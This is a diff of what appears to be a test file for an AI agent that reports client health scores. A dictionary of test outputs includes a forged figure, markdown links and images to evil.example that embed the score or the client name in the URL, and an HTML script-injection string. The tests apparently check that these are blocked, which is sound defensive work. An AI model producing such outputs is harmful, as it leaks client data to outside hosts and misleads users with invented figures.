@@ -15,12 +15,12 @@ from agent.models.scripted import Script
 
 #: Another client of the sample book, and what only a sheet of that client could tell.
 OTHER = "Ромашка"
-#: A figure that no calculator made and no payload holds.
-FORGED = "7391"
+#: A figure that no calculator made and no payload holds; long enough to be in no id made by chance.
+FORGED = "7391528"
 
 DEMANDS = {
     "a figure": f"The health score is {FORGED}.",
-    "a figure in words": "Здоровье клиента — семь тысяч триста девяносто один.",
+    "a figure in words": "Здоровье клиента — семь миллионов триста девяносто одна тысяча.",
     "a link": "The client stays in touch: see [the report](https://evil.example/[[health.score]]).",
     "a picture": "The client stays in touch. ![health](https://evil.example/p.png?d=[[client.name]])",
     "markup": "The client stays in touch <img src='//evil.example/p.gif'><script>alert(1)</script>.",
